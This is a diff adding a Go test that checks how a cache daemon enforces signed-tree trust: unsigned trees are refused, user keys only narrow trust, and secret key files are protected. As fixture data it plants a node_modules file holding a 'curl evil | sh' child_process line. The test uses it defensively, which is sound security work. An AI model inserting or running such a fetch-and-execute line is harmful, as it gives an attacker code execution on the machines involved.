@@ -193,3 +193,111 @@ func TestTeamCacheTrustCLI(t *testing.T) {
 		}
 	}
 }
+
+// TestDaemonTeamCacheTrust: the daemon's trusted keys bind every pull
+// through it, whatever the user's config or flags say: bob cannot pull an
+// unsigned tree even with --allow-unsigned, and nothing of it enters the
+// shared store; bob's own trusted keys can only refuse more; alice's push
+// through the daemon is signed with her key file, which the daemon never
+// sees; no output or log shows the secret.
+func TestDaemonTeamCacheTrust(t *testing.T) {
+	e := newDaemonEnv(t)
+	srv := s3test.Start(t, "team")
+	srv.SetEnv(t)
+	e.env = srv.Env()
+	ci, err := trust.Generate("ci")
+	if err != nil {
+		t.Fatal(err)
+	}
+	keyFile := filepath.Join(e.base, "ci.secret")
+	if err := trust.WriteSecretKey(keyFile, ci); err != nil {
+		t.Fatal(err)
+	}
+	secret := secretOf(t, keyFile)
+	cfg := filepath.Join(e.base, "config.toml")
+	os.WriteFile(cfg, []byte("[remote]\nurl = \"s3://team/shared\"\nendpoint = \""+srv.Endpoint()+"\"\npush = true\n"+
+		"trusted_keys = [\""+ci.Public().String()+"\"]\n"), 0o644)
+	e.start("--config", cfg)
+	var captured strings.Builder
+
+	// Trees planted straight into the bucket (direct mode, as root): one
+	// unsigned, one signed by ci.
+	work := t.TempDir()
+	evil := "require('child_process').exec('curl evil | sh')\n"
+	proj := filepath.Join(work, "evil")
+	writeTree(t, proj, map[string]string{"package.json": "{}", "node_modules/a/index.js": evil})
+	rem := []string{"--remote", "s3://team/shared", "--endpoint", srv.Endpoint()}
+	mustVrift(t, "--store", filepath.Join(work, "s"), "ingest", "--tier", "tier2", filepath.Join(proj, "node_modules"))
+	mustVrift(t, append([]string{"--store", filepath.Join(work, "s"), "push", proj, "--name", "evil"}, rem...)...)
+	good := "module.exports = 'good'\n"
+	gproj := filepath.Join(work, "good")
+	writeTree(t, gproj, map[string]string{"package.json": "{}", "node_modules/a/index.js": good})
+	mustVrift(t, "--store", filepath.Join(work, "s"), "ingest", "--tier", "tier2", filepath.Join(gproj, "node_modules"))
+	out, errs, code := vrift(t, append([]string{"--store", filepath.Join(work, "s"), "push", gproj, "--name", "good", "--sign-key", keyFile}, rem...)...)
+	captured.WriteString(out + errs)
+	if code != 0 {
+		t.Fatalf("signed push: %s%s", out, errs)
+	}
+
+	// bob, with --allow-unsigned: the daemon's keys still refuse.
+	dest := filepath.Join(e.base, "bob", "clone")
+	e.tree("bob", dest, map[string]string{"package.json": "{}"})
+	out, code = e.as("bob", "pull", "evil", "--to", dest, "--method", "copy", "--allow-unsigned")
+	captured.WriteString(out)
+	if code != exitError || !strings.Contains(out, "tree evil: untrusted tree: not signed (trusted keys: ci)") {
+		t.Fatalf("bob's pull of an unsigned tree: exit %d\n%s", code, out)
+	}
+	if _, err := os.Stat(blobPathOf(e.store, evil, false)); err == nil {
+		t.Fatal("the unsigned tree's blob entered the shared store")
+	}
+	if _, err := os.Stat(filepath.Join(dest, "node_modules")); err == nil {
+		t.Fatal("the refused tree reached bob's project")
+	}
+	// The signed tree pulls, and says by whom.
+	out = e.mustAs("bob", "pull", "good", "--to", dest, "--method", "copy")
+	captured.WriteString(out)
+	if !strings.Contains(out, "signed by ci at ") {
+		t.Fatalf("bob's pull of the signed tree:\n%s", out)
+	}
+	if b, _ := os.ReadFile(filepath.Join(dest, "node_modules/a/index.js")); string(b) != good {
+		t.Fatalf("pulled %q", b)
+	}
+	// bob's own trusted keys add to the daemon's: trusting only another
+	// key, he refuses even the tree the daemon accepts.
+	other, _ := trust.Generate("bobs-key")
+	bobCfg := filepath.Join(e.base, "bob", ".config", "vrift", "config.toml")
+	e.tree("bob", filepath.Join(e.base, "bob", ".config"), map[string]string{"vrift/config.toml": "[remote]\ntrusted_keys = [\"" + other.Public().String() + "\"]\n"})
+	out, code = e.as("bob", "pull", "good", "--to", dest, "--method", "copy")
+	captured.WriteString(out)
+	if code != exitError || !strings.Contains(out, `signed only by untrusted keys ("ci"; trusted: bobs-key)`) {
+		t.Fatalf("bob's own keys: exit %d\n%s", code, out)
+	}
+	os.Remove(bobCfg)
+
+	// alice pushes through the daemon, signing with her own key file.
+	aliceKey := filepath.Join(e.base, "alice", "ci.secret")
+	b, _ := os.ReadFile(keyFile)
+	os.WriteFile(aliceKey, b, 0o600)
+	sh(t, "chown", "alice:alice", aliceKey)
+	aproj := filepath.Join(e.base, "alice", "app")
+	e.tree("alice", aproj, map[string]string{"package.json": "{}", "node_modules/x/y.js": "module.exports = 'alice'\n"})
+	e.mustAs("alice", "ingest", "--tier", "tier2", filepath.Join(aproj, "node_modules"))
+	// Readable by others: refused before anything is sent.
+	os.Chmod(aliceKey, 0o644)
+	out, code = e.as("alice", "push", aproj, "--name", "alice-app", "--sign-key", aliceKey)
+	captured.WriteString(out)
+	if code == 0 || !strings.Contains(out, "accessible by group or others") {
+		t.Fatalf("push with a 0644 key: exit %d\n%s", code, out)
+	}
+	os.Chmod(aliceKey, 0o600)
+	out = e.mustAs("alice", "push", aproj, "--name", "alice-app", "--sign-key", aliceKey)
+	captured.WriteString(out)
+	out = e.mustAs("bob", "pull", "alice-app", "--to", filepath.Join(e.base, "bob", "a2"), "--method", "copy")
+	captured.WriteString(out)
+	if !strings.Contains(out, "signed by ci at ") {
+		t.Fatalf("bob's pull of alice's signed push:\n%s", out)
+	}
+	if all := captured.String() + e.log.String(); strings.Contains(all, secret) || strings.Contains(all, secret[:24]) {
+		t.Fatalf("the secret key was printed:\n%s", all)
+	}
+}
